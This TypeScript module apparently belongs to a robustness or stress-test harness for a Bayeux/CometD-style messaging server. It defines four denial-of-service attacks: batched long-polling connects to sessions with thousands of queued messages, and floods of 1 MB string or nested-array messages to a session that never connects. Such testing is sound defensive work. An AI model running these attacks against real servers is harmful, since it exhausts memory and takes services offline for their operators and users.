/** Attacks with what waits for a session. */
import { type Attack, handshake, mebibyte, subscribe, times } from "./Attack.ts"
import type { Attacker } from "./Attacker.ts"

/** A session that does not connect, subscribed to `/queue`. */
const begin = async (attacker: Attacker, more: object = {}) => {
  const socket = await attacker.open()
  const [shaken] = await socket.ask([handshake(more)])
  const clientId = shaken?.clientId
  await socket.ask([subscribe(clientId, "/queue")])
  return { clientId, socket }
}

/** Connects of one session, without an acknowledgement, so that each of them is answered with all that waits. */
const connects = (waiting: number, count: number) => async (attacker: Attacker): Promise<string> => {
  const { clientId, socket } = await begin(attacker, { ext: { ack: true } })
  const batch = 1_000
  for (let left = waiting; left > 0; left -= batch) {
    await socket.ask(Array.from({ length: Math.min(batch, left) }, () => ({ channel: "/queue", data: 1 })))
  }
  const connect = { channel: "/meta/connect", clientId, connectionType: "long-polling" }
  const status = await attacker.post(JSON.stringify(Array.from({ length: count }, () => connect)))
  return status === 0 ? "no answer" : `status ${status}`
}

/** Messages with this data to that session, from a peer without one. */
const fill = (data: string, count: number) => async (attacker: Attacker): Promise<string> => {
  await begin(attacker)
  const publisher = await attacker.open()
  const text = `[{"channel":"/queue","data":${data}}]`
  const sent = await times(count, attacker, async () => {
    await publisher.send(text)
    await publisher.ask([{ channel: "/nobody", data: 1 }])
  })
  return `${sent} messages of 1 MB`
}

/** A JSON text of `[[],[],…]` that is a little shorter than a message may be. */
const trees = `[${"[],".repeat((mebibyte - 100) / 3 - 1)}[]]`

export const queues: ReadonlyArray<Attack> = [
  {
    name: "connects",
    title: "9,000 connects in a batch, 9,999 messages wait",
    seconds: 60,
    run: connects(9_999, 9_000)
  },
  {
    name: "connects-few",
    title: "500 connects in a batch, 100 messages wait",
    seconds: 30,
    run: connects(100, 500)
  },
  {
    name: "queue-bytes",
    title: "1 MB messages to a session that never connects",
    seconds: 60,
    run: fill(JSON.stringify("x".repeat(mebibyte - 100)), 1_000)
  },
  {
    name: "queue-trees",
    title: "the same with [[],[],…] as data",
    seconds: 60,
    run: fill(trees, 500)
  }
]
